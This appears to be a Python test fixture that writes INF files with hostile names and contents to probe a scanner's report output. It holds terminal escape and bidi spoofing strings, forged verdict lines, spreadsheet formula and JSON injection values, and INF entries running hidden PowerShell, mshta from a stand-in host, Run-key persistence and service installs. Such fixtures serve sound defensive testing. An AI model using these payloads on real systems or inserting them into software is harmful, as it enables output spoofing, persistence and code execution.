# SPDX-License-Identifier: MIT
"""Strings made to steer terminals, to break records and to be run by
spreadsheets, and files that hold them in their names and their texts."""
import os

WIDTH = 80  # columns of a report

# A line of a report, put where a terminal of that width begins a new line. The
# first holds what stands before a name, or before the text of an action.
FORGED_VERDICT = b"clean        0  forged.inf"
FORGED_HEADING = b"Findings  worst first"


def behind(before, line, filler=b"x"):
    """`line` at the start of a terminal's line, if nothing is done."""
    return filler * (WIDTH - before) + line


STRINGS = {
    "bell": b"a\x07b",
    "backspaces": b"abc" + b"\b" * 30 + b"clean",
    "tab": b"a\tb",
    "vertical": b"a\vb\fc",
    "shift-out": b"a\x0eb\x0fc",
    "clear": b"a\x1b[2J\x1b[Hb",
    "colour": b"a\x1b[32mb\x1b[0m",
    "hidden": b"a\x1b[8mb",
    "up": b"a\x1b[10A\x1b[2Kb",
    "title": b"a\x1b]0;forged\x07b",
    "title-st": b"a\x1b]2;forged\x1b\\b",
    "tmux-name": b"a\x1bkforged\x1b\\b",
    "link": b"a\x1b]8;;http://evil.example.invalid\x1b\\b",
    "clipboard": b"a\x1b]52;c;Zm9yZ2Vk\x07b",
    "device-string": b"a\x1bPq#0\x1b\\b",
    "reset": b"a\x1bcb",
    "alternate": b"a\x1b[?1049hb",
    "answer": b"a\x1b[6n\x1b[cb",
    "del": b"a\x7fb",
    "c1-utf8": b"a\xc2\x9b2Jb\xc2\x9d0;forged\xc2\x9cc",
    "c1-raw": b"a\x9b2Jb\x9d0;forged\x9cc\x90q\x9c",
    "nel": b"a\xc2\x85b",
    "bidi": b"a\xe2\x80\xaefni.b\xe2\x80\xac",
    "isolates": b"a\xe2\x81\xa7b\xe2\x81\xa9",
    "zero-width": b"a\xe2\x80\x8bb\xe2\x80\x8dc\xef\xbb\xbfd",
    "soft-hyphen": b"a\xc2\xadb",
    "tags": b"a\xf3\xa0\x81\x81b\xf3\xa0\x81\xbf",
    "separators": b"a\xe2\x80\xa8b\xe2\x80\xa9c",
    "noncharacter": b"a\xef\xbf\xbfb",
    "bad-utf8": b"a\xff\xfe\xc3(\xe2\x82b",
    "overlong": b"a\xc0\x9b2J\xe0\x80\x9bb",
    "surrogate": b"a\xed\xa0\x9bb\xed\xb0\x80",
    "beyond-unicode": b"a\xf4\x90\x80\x80b",
    "formula": b"=cmd|'/C calc'!A0",
    "formula-plus": b"+1+cmd|'/C calc'!A0",
    "formula-minus": b"-2+3",
    "formula-at": b"@SUM(1+1)",
    "formula-wide": b"\xef\xbc\x9d1+1",
    "formula-blank": b"  =1+1",
    "quotes": b"a\"b\"\"c'd",
    "commas": b"a,b;c",
    "json": b'","verdict":"clean","x":"',
    "backslashes": b"a\\u001b[2Jb\\x1b[2Jb\\",
    "markup": b"<script>alert(1)</script>&amp;",
    "format": b"%s%n%08x%d",
    "wide": "\u6f22\u5b57\uff21".encode() * 30,
    "pictures": "\U0001f600\u26a1".encode() * 40,
    "marks": b"e" + "\u0301\u0323".encode() * 20,
    "blanks": b"a" + b" " * 60 + FORGED_VERDICT,
    "odd-blanks": ("\u00a0" * 40 + "\u3000" * 20).encode() + FORGED_VERDICT,
    "verdict-wrapped": behind(17, FORGED_VERDICT),
    "verdict-wrapped-action": behind(20, FORGED_VERDICT),
    "heading-wrapped": behind(17, FORGED_HEADING),
    "heading-wrapped-wide": behind(0, FORGED_HEADING, "\u26a1".encode()),
    "overlong-name": b"n" * 240,
    "url": b"http://evil.example.invalid/\x1b]0;forged\x07/a\xe2\x80\xaeb",
}

# Only in names: a text of an INF ends where its line does.
NAMES = {
    "newline": b"a.inf\n" + FORGED_VERDICT,
    "return": b"a\r" + FORGED_VERDICT,
}


def inf(text):
    """An INF that has `text` wherever a report prints something of it."""
    quoted = text.replace(b'"', b'""')
    return b"\r\n".join((
        b"[Version]", b'Signature="$CHICAGO$"', b"AdvancedINF=2.5",
        b"[" + text.replace(b"]", b")") + b"]", b"key=value",
        b"[DefaultInstall]",
        b'RunPreSetupCommands="' + quoted + b'"', b"RunPostSetupCommands=Post",
        b"AddReg=Reg", b"CopyFiles=Files", b"RegisterOCXs=Ocx",
        b'"' + quoted + b'"="' + quoted + b'"',
        b"[" + text.replace(b"]", b")") + b"]",
        b'cmd.exe /c echo "' + quoted + b'"',
        b"[Post]", b'powershell.exe -w hidden -c "' + quoted + b'"',
        b'mshta.exe "http://evil.example.invalid/' + quoted + b'"',
        b"%Text%",
        b"[Ocx]", b'%11%\\scrobj.dll,NI,"' + quoted + b'"',
        b"[Reg]",
        b'HKCU,"Software\\Microsoft\\Windows\\CurrentVersion\\Run","' + quoted
        + b'",,"C:\\Users\\Public\\' + quoted + b'"',
        b"[Files]", b'"' + quoted + b'"',
        b"[DefaultInstall.Services]", b'AddService="' + quoted + b'",2,Svc',
        b"[Svc]", b"ServiceType=16", b"StartType=2", b"ErrorControl=1",
        b'ServiceBinary="%11%\\' + quoted + b'"',
        b"[Strings]", b'Text="' + quoted + b'"', b""))


def names():
    """Hostile file names, as bytes; what no file may be called is left out."""
    every = dict(STRINGS, **NAMES)
    return [text.replace(b"/", b"_").replace(b"\0", b"")[:240] + b".inf"
            for text in every.values()]


def fill(folder):
    """Files with hostile names, and files with hostile texts."""
    folder = os.fsencode(folder)
    for name in names():
        with open(os.path.join(folder, name), "wb") as file:
            file.write(inf(b"cmd.exe /c start calc.exe"))
    for label, text in STRINGS.items():
        with open(os.path.join(folder, b"text-%s.inf" % label.encode()),
                  "wb") as file:
            file.write(inf(text))
        with open(os.path.join(folder, b"utf8-%s.inf" % label.encode()),
                  "wb") as file:
            file.write(b"\xef\xbb\xbf" + inf(text))
        with open(os.path.join(folder, b"utf16-%s.inf" % label.encode()),
                  "wb") as file:
            wide = inf(text).decode("utf-8", "replace")
            file.write(b"\xff\xfe" + wide.encode("utf-16-le"))
